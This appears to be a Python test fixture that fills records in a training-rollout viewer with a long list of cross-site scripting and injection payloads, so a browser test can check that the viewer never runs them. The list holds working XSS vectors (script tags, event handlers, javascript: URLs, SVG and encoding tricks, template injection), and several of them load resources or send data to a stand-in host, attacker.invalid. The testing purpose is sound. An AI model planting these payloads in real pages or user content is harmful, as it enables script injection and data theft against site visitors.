"""Texts that would act if a page took them for more than text, and a book that has them wherever a record has text."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import numpy as np

import rollbook
from rollbook import EID, Experience
from tests.browser.chrome import Page
from tests.viewer import story

PAYLOADS = [
    "<script>window.__pwn=1</script>",
    "<ScRiPt >window.__pwn=1</sCrIpT >",
    "<script src=http://attacker.invalid/x.js></script>",
    "<script>alert(1)</script>",
    "</script><script>window.__pwn=1</script>",
    "</title><script>window.__pwn=1</script>",
    "</textarea><script>window.__pwn=1</script>",
    "</style><script>window.__pwn=1</script>",
    "</noscript><img src=x onerror=window.__pwn=1>",
    "<!--<script>window.__pwn=1</script>",
    "--><script>window.__pwn=1</script>",
    "<![CDATA[<script>window.__pwn=1</script>]]>",
    "<img src=x onerror=window.__pwn=1>",
    '<img src="http://attacker.invalid/pixel.png">',
    "<img/src/onerror=window.__pwn=1>",
    '"><img src=x onerror=window.__pwn=1>',
    "'><img src=x onerror=window.__pwn=1>",
    "` onmouseover=window.__pwn=1 `",
    '" autofocus onfocus=window.__pwn=1 x="',
    "<svg onload=window.__pwn=1>",
    "<svg><script>window.__pwn=1</script></svg>",
    "<svg><animate onbegin=window.__pwn=1 attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=window.__pwn=1 />#x'>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.__pwn=1>",
    "<iframe src=javascript:window.parent.__pwn=1></iframe>",
    "<iframe srcdoc='<script>parent.__pwn=1</script>'></iframe>",
    "<object data=http://attacker.invalid/></object>",
    "<embed src=javascript:window.__pwn=1>",
    "<body onload=window.__pwn=1>",
    "<details open ontoggle=window.__pwn=1>x</details>",
    "<video><source onerror=window.__pwn=1></video>",
    "<input autofocus onfocus=window.__pwn=1>",
    "<marquee onstart=window.__pwn=1>x</marquee>",
    "<form action=javascript:window.__pwn=1><button>x</button></form>",
    "<a href=javascript:window.__pwn=1>x</a>",
    "javascript:window.__pwn=1",
    "JaVaScRiPt:window.__pwn=1",
    "[click](javascript:window.__pwn=1)",
    "![picture](http://attacker.invalid/exfiltrate.png)",
    "[x]: http://attacker.invalid/ 'title\"onmouseover=window.__pwn=1'",
    "<http://attacker.invalid/auto>",
    "data:text/html,<script>window.__pwn=1</script>",
    "<style>@import 'http://attacker.invalid/x.css';</style>",
    "<link rel=stylesheet href=http://attacker.invalid/x.css>",
    "<style>*{background:url(http://attacker.invalid/x.png)}</style>",
    "<meta http-equiv=refresh content='0;url=http://attacker.invalid/'>",
    "<base href=http://attacker.invalid/>",
    "{{constructor.constructor('window.__pwn=1')()}}",
    "${window.__pwn=1}",
    "<%= window.__pwn=1 %>",
    "\\u003cscript\\u003ewindow.__pwn=1\\u003c/script\\u003e",
    "&lt;script&gt;window.__pwn=1&lt;/script&gt;&#60;img src=x onerror=window.__pwn=1&#62;",
    "\uff1cscript\uff1ewindow.__pwn=1\uff1c/script\uff1e",
    "<scr\u0000ipt>window.__pwn=1</scr\u0000ipt>",
    "<img src=x\u2028onerror=window.__pwn=1>",
    "\u202e<img src=x onerror=window.__pwn=1>\u202c",
    "<x " + "a" * 4000 + "=1 onclick=window.__pwn=1>",
    "__proto__",
    "constructor",
    "hasOwnProperty",
    "toString",
]
SHOWN = PAYLOADS[0]
FOLDER = "<img src=x onerror=window.__pwn=1>&quot;"
"""What the run is called."""


def record(batch: int, task: str, run: int, payload: str, places: list[str], runs: int) -> Experience:
    """A sample that says `payload`; each of `places` is a key and a value wherever a record has keys and values."""
    ids = story.tokenizer().encode(f"<|im_start|>user\n{payload}<|im_end|>\n<|im_start|>assistant\n").ids
    answer = (
        story.tokenizer().encode(f"<think>{payload}</think>\n<tool_call>{payload}</tool_call>{payload}<|im_end|>").ids
    )
    prompt, total = len(ids), len(ids) + len(answer)
    some: list[Any] = [{"role": place[:60], "name": place, "content": place} for place in places]
    calls = [{"function": {"name": place, "arguments": place}} for place in places]
    return Experience(
        eid=EID(batch=batch, task=task, run=run, suffix="s"),
        tokens=np.array(ids + answer, np.int32),
        prompt_length=prompt,
        logprobs=np.full(len(answer), -0.5, np.float32),
        entropy=np.linspace(0, 1, len(answer), dtype=np.float32),
        reward=run / runs,
        group_size=runs,
        finish_reason=places[0],
        prompt_text=payload,
        response_text=payload,
        messages=[
            *some,
            {"role": "assistant", "content": payload, "tool_calls": calls},
            {
                "role": "tool",
                "name": payload,
                "content": [{"type": "text", "text": payload}, {"type": "image_url", "image_url": {"url": payload}}],
            },
        ],
        tools=[{"type": "function", "function": {"name": place, "description": place}} for place in places],
        sampling=dict.fromkeys(places, "x"),
        metrics={place: float(i) for i, place in enumerate(places)},
        info={
            **{place: place for place in places},
            "nested": {place: [place, {place: place}] for place in places},
            "reference": payload,
            "label": payload,
            "kept": payload,
            "notes": places,
            "reward_parts": places[::2],  # the others are metrics
            "task_name": payload,
            "segments": [
                {"kind": "prompt", "role": payload, "start": 0, "stop": prompt},
                {"kind": "tool_call", "name": payload, "start": prompt, "stop": total - 4},
                {"kind": payload, "name": payload, "start": total - 4, "stop": total},
            ],
        },
    )


def make(folder: Path) -> str:
    """A book of four steps: in the first every payload has a group of its own and stands in every single place; in the
    others each record has all of them."""
    path = folder / FOLDER
    every = "\n".join(PAYLOADS)
    with rollbook.open(path, tokenizer=story.tokenizer()) as book:
        for i, payload in enumerate(PAYLOADS):
            named = payload.replace("\0", "·")  # an id, and what a database keeps as a column, has no NUL
            book.append([record(0, named, 0, payload, [named, PAYLOADS[i - 1]], 1)])
            book.drop([EID(batch=0, task=named, run=0, suffix="s").uid], named[:200])
        for step in (1, 2, 3):
            book.append([record(step, "every", run, every + str(run), PAYLOADS, 4) for run in range(4)])
        book.drop(["1/every/1/0/s"], SHOWN)
        book.log(1, dict.fromkeys(PAYLOADS, 1.0))
    return str(path)


def go(page: Page, address: str, ready: str) -> None:
    """Open an address and wait until an element that fits is there, drawn for that address."""
    if page.hash() != address:
        page.eval(f"document.querySelector('#main').replaceChildren(); location.hash = {json.dumps(address)}")
    page.wait(
        f"!!document.querySelector({json.dumps(ready)})"
        " && document.querySelector('#main').getAttribute('aria-busy') !== 'true'"
    )
